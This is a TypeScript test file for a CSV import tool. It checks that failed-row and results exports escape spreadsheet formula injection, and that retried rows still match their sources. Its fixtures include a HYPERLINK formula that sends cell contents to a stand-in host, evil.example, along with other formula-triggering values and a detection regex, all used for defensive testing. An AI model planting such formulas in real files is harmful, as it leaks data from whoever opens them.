import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { recordsOf } from '../import/api.ts'
import { call, towards } from './program.ts'
import { openStage } from './stage.ts'

const stage = openStage()

const formula = '=HYPERLINK("http://evil.example/"&A1;"Open")'
/** Names as a source may have them; a spreadsheet would run the first five. */
const names = [formula, '+1-415-555', '@SUM(A1)', '-2+3', '\t=1', "'=1", "'t Hart", '-5', '+1 415 555 0100', 'Acme; =1']

/** A file of accounts, whose identity is their content or their name, and the calls that are made with it. */
async function accountsOf(key: string) {
  const sandbox = await stage.sandbox()
  const folder = stage.folder()
  const at = (name: string) => join(folder, name)
  const rows = names.map(name => `"${name.replaceAll('"', '""')}",${formula.length}\n`)
  writeFileSync(at('rows.csv'), `=Name,Revenue\n${rows.join('')}`)
  writeFileSync(
    at('rows.yaml'),
    `object: account\n${key}fields: { $name: "=Name", annualRevenue: { column: Revenue, decimal: "." } }\n`,
  )
  const env = towards(sandbox)
  const run = (file: string, ...more: string[]) =>
    call(['run', at(file), '--mapping', at('rows.yaml'), '--json', ...more], { env })
  const refuseAll = () =>
    sandbox.setFaults([
      { kind: 'status', status: 422, body: { error: { code: '=1', message: '@no' } }, match: { category: 'write' } },
    ])
  return { sandbox, at, run, refuseAll }
}

/** The cells of a CSV as a spreadsheet gets them. */
function cellsOf(text: string): string[][] {
  return parse(text)
}

const runs = /^\s*[=@]|^\t|^[+-](?![\d., ]*$)/

test.concurrent.each([
  ['their content', ''],
  ['a column with formulas', 'key: ["=Name"]\n'],
])('rows told apart by %s are the same ones after a detour over --failed', async (_, key) => {
  const { sandbox, at, run, refuseAll } = await accountsOf(key)
  refuseAll()
  const refused = await run('rows.csv', '--failed', at('failed.csv'))
  sandbox.setFaults([])
  const cells = cellsOf(readFileSync(at('failed.csv'), 'utf8'))
  const again = await run('failed.csv', '--retry-failed')
  const source = await run('rows.csv')

  expect(JSON.parse(refused.stdout).outcomes).toMatchObject({ failed: names.length })
  expect(cells.flat().filter(cell => runs.test(cell))).toEqual([])
  expect(cells.map(([name]) => name)).toEqual(["'=Name", ...names.map((name, at) => (at < 6 ? `'${name}` : name))])
  expect(JSON.parse(again.stdout)).toMatchObject({ rows: names.length, outcomes: { created: names.length } })
  expect(JSON.parse(source.stdout)).toMatchObject({ rows: names.length, outcomes: { skipped: names.length } })
  const held = recordsOf(sandbox, 'account').map(({ fields }) => fields['$name'])
  expect(held.toSorted()).toEqual(names.map(name => name.trim()).toSorted())
})

test.concurrent('results run nothing in a spreadsheet, on stdout and in files; JSON says what the row says', async () => {
  const { at, run } = await accountsOf('key: ["=Name"]\n')
  await run('rows.csv', '--results', at('of-run.csv'))
  const results = ['results', '--mapping', at('rows.yaml')]

  const csv = await call(results)
  const json = await call([...results, '--json'])
  await call([...results, '--out', at('of-ledger.csv')])

  for (const text of [csv.stdout, readFileSync(at('of-run.csv'), 'utf8'), readFileSync(at('of-ledger.csv'), 'utf8')]) {
    const cells = cellsOf(text)
    expect(cells).toHaveLength(names.length + 1)
    expect(cells.flat().filter(cell => runs.test(cell))).toEqual([])
    expect(cells.map(([, , key]) => key)).toContain(`'${formula}`)
  }
  const keys = json.stdout
    .trimEnd()
    .split('\n')
    .map(line => JSON.parse(line).key)
  expect(keys).toEqual(names.map(name => name.trim()))
})

test.concurrent.each([
  ['left', "'-7"],
  ['dropped', '-7'],
])('a mended cell is read alike where its apostrophe was %s', async (_, mended) => {
  const { sandbox, at, run } = await accountsOf('')
  writeFileSync(at('rows.csv'), '=Name,Revenue\nAcme,=3-10\n')
  await run('rows.csv', '--failed', at('failed.csv'))
  writeFileSync(at('failed.csv'), readFileSync(at('failed.csv'), 'utf8').replace("'=3-10", mended))

  const ended = await run('failed.csv')

  expect(ended.code, ended.stderr).toBe(0)
  expect(recordsOf(sandbox, 'account').map(({ fields }) => fields['annualRevenue'])).toEqual([-7])
})

test.concurrent('a file that --failed did not write is read to the letter', async () => {
  const { sandbox, at, run } = await accountsOf('')
  writeFileSync(at('rows.csv'), "=Name,Revenue\n'=1+1,1\n")

  expect((await run('rows.csv')).code).toBe(0)
  expect(recordsOf(sandbox, 'account').map(({ fields }) => fields['$name'])).toEqual(["'=1+1"])
})
